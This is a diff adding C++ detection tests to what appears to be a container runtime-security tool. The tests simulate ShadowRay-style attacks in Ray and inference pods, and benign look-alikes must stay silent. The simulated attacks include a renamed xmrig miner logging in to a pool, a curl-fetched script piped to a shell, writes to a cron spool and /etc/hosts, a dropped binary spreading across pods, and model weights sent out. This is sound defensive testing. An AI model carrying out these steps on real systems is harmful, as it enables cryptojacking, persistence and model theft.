@@ -430,6 +430,171 @@ TEST_F(Scenario, BenignWorkloadsRaiseNothing) {
   EXPECT_TRUE(bad.empty()) << "benign workloads raised alerts:\n" << dump(bad);
 }
 
+// AI-infrastructure intrusions (ShadowRay 2.0's steps after its job runs,
+// and model theft), each by its real mechanics in a Ray worker pod or an
+// inference pod: a real prctl(PR_SET_NAME) and an exec with a chosen argv[0],
+// a stratum login, a real kill of a process the sender did not start, real
+// opens for writing of /etc/hosts (O_APPEND, nothing written: left intact) and
+// of a cron spool (in a tmpfs over the pod's own /var/spool), a fetched script
+// handed to a shell and a file written then run under a raylet, the same file
+// started in a second Ray pod, weights read then a public connection.
+TEST_F(Scenario, AiInfrastructureIntrusions) {
+  // The miner renames itself dns-filter, then logs in to its pool.
+  PodRun miner;
+  miner.tcp_sinks = {"198.51.100.20:3333"};
+  miner.argv = {s().tool("xmrig"), "--cpu-max-threads-hint", "60"};
+  miner.steps =
+      "rename:dns-filter;tcp:198.51.100.20:3333;send:{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{"
+      "\"login\":\"44AFF\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\\n;execa:" +
+      s().tool("rival") + "|dns-filter|--quiet";
+  auto [mpid, mrc] = run_in_pod(pod("ray-0"), miner);
+  ASSERT_EQ(mrc, 0) << "the workload failed";
+  expect_alert("Process renamed in container", "ray-0", "Error");
+  expect_alert("Stratum mining protocol on outbound connection", "ray-0", "Critical");
+  auto renamed = alerts_for("Process renamed in container", "ray-0");
+  std::this_thread::sleep_for(1s);
+  renamed = alerts_for("Process renamed in container", "ray-0", 0ms);
+  bool by_comm = false, by_argv0 = false;
+  for (const auto& a : renamed) {
+    const json& f = a["output_fields"];
+    if (f.value("proc.renamed_by", "") == "comm") {
+      by_comm = true;
+      EXPECT_EQ(f.value("thread.name", ""), "dns-filter") << a.dump();
+      EXPECT_EQ(f.value("proc.name", ""), "xmrig") << a.dump();
+      EXPECT_EQ(f.value("proc.pid", json()), mpid) << a.dump();
+    }
+    if (f.value("proc.renamed_by", "") == "argv0") {
+      by_argv0 = true;
+      EXPECT_EQ(f.value("proc.exe", ""), "dns-filter") << a.dump();
+      EXPECT_EQ(f.value("proc.name", ""), "rival") << a.dump();
+    }
+  }
+  EXPECT_TRUE(by_comm) << "no alert for the prctl rename:\n" << dump(renamed);
+  EXPECT_TRUE(by_argv0) << "no alert for the exec with argv[0] dns-filter:\n" << dump(renamed);
+
+  // A rival miner the attacker did not start, killed.
+  const std::string rival_path = s().tool("rival");
+  vigil::support::Child rival = vigil::support::Child::run(
+      [&] {
+        setenv("VIGIL_STEPS", "sleep:20000", 1);
+        execl(rival_path.c_str(), rival_path.c_str(), "--url", "pool.rival.example:3333", static_cast<char*>(nullptr));
+        return 127;
+      },
+      {.cgroup = pod("ray-0").scope});
+  ASSERT_GT(rival.pid(), 0);
+  std::this_thread::sleep_for(500ms);
+  PodRun killer;
+  killer.argv = {s().tool("xmrig")};
+  killer.steps = "kill:" + std::to_string(rival.pid()) + ":9";
+  ASSERT_EQ(run_in_pod(pod("ray-0"), killer).second, 0);
+  rival.wait(5s);
+  expect_alert("Signal sent to process not started by sender in container", "ray-0", "Warning");
+  auto kills = alerts_for("Signal sent to process not started by sender in container", "ray-0", 0ms);
+  ASSERT_FALSE(kills.empty());
+  EXPECT_EQ(kills[0]["output_fields"].value("target.pid", json()), rival.pid()) << dump(kills);
+  EXPECT_EQ(kills[0]["output_fields"].value("target.name", json()), "rival") << dump(kills);
+  EXPECT_EQ(kills[0]["output_fields"].value("evt.arg.sig", json()), "SIGKILL") << dump(kills);
+
+  // /etc/hosts and a cron spool opened for writing (nothing written).
+  PodRun persist;
+  persist.argv = {s().tool("worker")};
+  persist.steps =
+      "open:/etc/hosts:a;tmpfs:/var/spool;mkdir:/var/spool/cron;mkdir:/var/spool/cron/crontabs;"
+      "open:/var/spool/cron/crontabs/root:c";
+  ASSERT_EQ(run_in_pod(pod("ray-0"), persist).second, 0);
+  expect_alert("Name resolution file written in container", "ray-0", "Error");
+  expect_alert("Cron or at job written in container", "ray-0", "Error");
+  auto cron = alerts_for("Cron or at job written in container", "ray-0", 0ms);
+  ASSERT_FALSE(cron.empty());
+  EXPECT_EQ(cron[0]["output_fields"].value("fd.name", ""), "/var/spool/cron/crontabs/root") << dump(cron);
+
+  // A raylet-named parent hands a fetched script to a shell, and writes a
+  // program to /tmp then runs it.
+  const std::string dropped = s().tmp + "/dns-filter";
+  PodRun job;
+  job.argv = {s().tool("raylet"), "--node_ip_address=10.244.1.9"};
+  // (The workload's exec step splits its argument at '|' and its steps at ';':
+  // the fetch is run as `sh -c "$(curl ...)"`, the same shape as `curl | sh`.)
+  job.steps =
+      "exec:/bin/sh|-c|sh -c \"$(curl -s --max-time 1 http://198.51.100.9:8080/s.sh)\";copy:/proc/self/exe:" + dropped +
+      ";exec:" + dropped;
+  job.child_steps = "sleep:500";  // the payload runs a while: long enough for its file to be hashed
+  ASSERT_EQ(run_in_pod(pod("ray-0"), job).second, 0);
+  expect_alert("Fetched script run by AI framework", "ray-0", "Critical");
+  if (alerts_for("Fetched script run by AI framework", "ray-0", 0ms).empty())
+    ADD_FAILURE() << "alerts of ray-0:\n" << dump(any_alert({"ray-0"}, {}));
+  expect_alert("File written then run by AI framework", "ray-0", "Critical");
+
+  // The same payload dropped and started in a second pod of the cluster.
+  PodRun spread;
+  spread.argv = {s().tool("raylet"), "--node_ip_address=10.244.2.9"};
+  spread.steps = "copy:/proc/self/exe:" + dropped + "-2;exec:" + dropped + "-2";
+  spread.child_steps = "sleep:500";
+  ASSERT_EQ(run_in_pod(pod("ray-2"), spread).second, 0);
+  expect_alert("Same dropped program started in several pods", "ray-2", "Error");
+  auto spread_alerts = alerts_for("Same dropped program started in several pods", "ray-2", 0ms);
+  ASSERT_FALSE(spread_alerts.empty());
+  EXPECT_EQ(spread_alerts[0]["output_fields"].value("step1.k8s.pod.name", json()), "ray-0") << dump(spread_alerts);
+
+  // Weights read by tar in an inference pod, then a public connection.
+  PodRun steal;
+  steal.tcp_sinks = {"203.0.113.50:443"};
+  steal.argv = {s().tool("tar"), "czf", "-", "/root/.cache/huggingface"};
+  steal.steps =
+      "tmpfs:/root;mkdir:/root/.cache;mkdir:/root/.cache/huggingface;"
+      "copy:/proc/self/exe:/root/.cache/huggingface/model.safetensors;"
+      "open:/root/.cache/huggingface/model.safetensors:r;tcp:203.0.113.50:443";
+  ASSERT_EQ(run_in_pod(pod("llm-steal-0"), steal).second, 0);
+  expect_alert("Model weights read then sent out", "llm-steal-0", "Critical");
+  auto stolen = alerts_for("Model weights read then sent out", "llm-steal-0", 0ms);
+  ASSERT_FALSE(stolen.empty());
+  EXPECT_EQ(stolen[0]["output_fields"].value("step1.fd.name", ""), "/root/.cache/huggingface/model.safetensors")
+      << dump(stolen);
+}
+
+// The look-alikes: a Ray worker's ordinary tasks (listening on its worker
+// port, running a subprocess, a shell ending its own child), an inference
+// server loading its weights then talking to the model hub, a training job
+// reading its checkpoint then uploading it.
+TEST_F(Scenario, AiInfrastructureLookAlikesRaiseNothing) {
+  std::set<long> pids;
+  PodRun worker;
+  worker.argv = {s().tool("ray::IDLE")};
+  worker.steps =
+      "listen:0.0.0.0:10023;exec:/bin/sh|-c|echo task > /dev/null;exec:/bin/sh|-c|sleep 5 & kill $!;"
+      "open:" +
+      s().tmp + "/ray-task.log:c";
+  auto [wpid, wrc] = run_in_pod(pod("ray-ok-0"), worker);
+  EXPECT_EQ(wrc, 0);
+  pids.insert(wpid);
+
+  PodRun server;
+  server.dns = {{"huggingface.co", "198.51.100.70"}};
+  server.tcp_sinks = {"198.51.100.70:443"};
+  server.argv = {s().tool("vllm"), "serve", "/root/.cache/huggingface"};
+  server.steps =
+      "tmpfs:/root;mkdir:/root/.cache;mkdir:/root/.cache/huggingface;"
+      "copy:/proc/self/exe:/root/.cache/huggingface/model.safetensors;"
+      "open:/root/.cache/huggingface/model.safetensors:r;dns:huggingface.co@10.96.0.10;tcp:198.51.100.70:443";
+  auto [spid, src] = run_in_pod(pod("llm-load-ok-0"), server);
+  EXPECT_EQ(src, 0);
+  pids.insert(spid);
+
+  PodRun trainer;
+  trainer.tcp_sinks = {"203.0.113.50:443"};
+  trainer.argv = {s().tool("pt_main_thread"), "-m", "torch.distributed.run", "finetune.py"};
+  trainer.steps =
+      "tmpfs:/root;mkdir:/root/.cache;mkdir:/root/.cache/huggingface;"
+      "copy:/proc/self/exe:/root/.cache/huggingface/step-100.safetensors;"
+      "open:/root/.cache/huggingface/step-100.safetensors:r;tcp:203.0.113.50:443";
+  auto [tpid, trc] = run_in_pod(pod("ckpt-ok-0"), trainer);
+  EXPECT_EQ(trc, 0);
+  pids.insert(tpid);
+
+  auto got = any_alert({"ray-ok-0", "llm-load-ok-0", "ckpt-ok-0"}, pids);
+  EXPECT_TRUE(got.empty()) << "look-alikes raised alerts:\n" << dump(got);
+}
+
 // Forensics: a second agent records a pod scenario (exec, connect, GPU
 // open/ioctl, an Xid naming the pod's process, a program written and run: a
 // sequence) with --capture; `vigil replay`
